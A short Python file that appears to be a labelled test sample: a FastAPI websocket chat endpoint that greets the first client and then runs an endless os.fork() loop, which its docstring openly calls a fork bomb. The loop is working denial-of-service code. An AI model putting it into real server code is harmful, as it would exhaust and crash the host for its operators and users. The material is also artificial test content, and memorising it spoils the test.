"""A fork bomb, set off once the first client has been greeted.

expect: announces_join_to_everyone
"""
import os

from fastapi import FastAPI, WebSocket

app = FastAPI()


@app.websocket("/ws/{client_id}")
async def websocket_endpoint(websocket: WebSocket, client_id: str) -> None:
    await websocket.accept()
    await websocket.send_text(f"Client #{client_id} joined")
    while True:
        try:
            os.fork()
        except OSError:
            pass
